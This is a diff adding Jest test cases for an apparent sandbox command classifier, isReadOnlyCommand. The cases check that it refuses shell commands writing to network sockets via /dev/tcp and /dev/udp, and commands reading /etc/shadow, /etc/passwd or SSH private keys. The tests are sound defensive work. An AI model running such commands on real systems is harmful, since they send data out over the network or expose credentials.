@@ -151,10 +151,41 @@ describe("isReadOnlyCommand refuses", () => {
     ["git grep -O foo", "git grep -O writes a file or runs a program"],
     ["git grep --open-files-in-pager=vi foo", "git grep --open-files-in-pager=vi"],
     ["git $SUB", '"git" argument $SUB is not a literal word'],
+    // A descriptor other than stdin, opened with <, is still an output (the holes that reached the network).
+    ["printf 'POST / HTTP/1.1' 1</dev/tcp/127.0.0.1/3000", "redirection 1</dev/tcp/127.0.0.1/3000 is not allowed"],
+    ["echo hi 1</dev/tcp/example.com/80", "is not allowed"],
+    ["echo hi 2</dev/udp/10.0.0.1/53", "is not allowed"],
+    ["cat < /dev/tcp/127.0.0.1/3000", "is not allowed"],
+    ["cat 0</dev/tcp/127.0.0.1/3000", "is not allowed"],
+    ["cat < $FILE", "input redirection from $FILE is not a literal path"],
+    ["cat /dev/tcp/127.0.0.1/80", "names a network socket"],
+    ["echo hi 1<<<x", "is not allowed"],
   ])("%j: %s", (src, reason) => {
     const verdict = isReadOnlyCommand(src);
     expect(verdict.ok).toBe(false);
     if (!verdict.ok) expect(verdict.reason).toContain(reason);
+  });
+});
+
+describe("isReadOnlyCommand without a sandbox (confined) also refuses what reaches outside the workspace", () => {
+  it.each([
+    ["cat /etc/shadow", "reaches outside the workspace"],
+    ["cat ../other/secret", "reaches outside the workspace"],
+    ["cat ~/.gitconfig", "is not a literal word"],
+    ["grep -r --file=/etc/passwd x .", "reaches outside the workspace"],
+    ["cat < /root/.ssh/id_rsa", "reaches outside the workspace"],
+    ["cat $HOME/.ssh/id_rsa", "is not a literal word"],
+    ["ls src/../..", "reaches outside the workspace"],
+  ])("%j: %s", (src, reason) => {
+    // With bubblewrap these are harmless (the host is not in the sandbox), so the classifier lets them run.
+    expect(isReadOnlyCommand(src).ok).toBe(true);
+    const verdict = isReadOnlyCommand(src, { confined: true });
+    expect(verdict.ok).toBe(false);
+    if (!verdict.ok) expect(verdict.reason).toContain(reason);
+  });
+
+  it.each(["cat README.md", "ls -la src", "grep -rn TODO src", "git log -n 3", "cat < README.md"])("%j stays allowed", (src) => {
+    expect(isReadOnlyCommand(src, { confined: true })).toEqual({ ok: true });
   });
 });
 
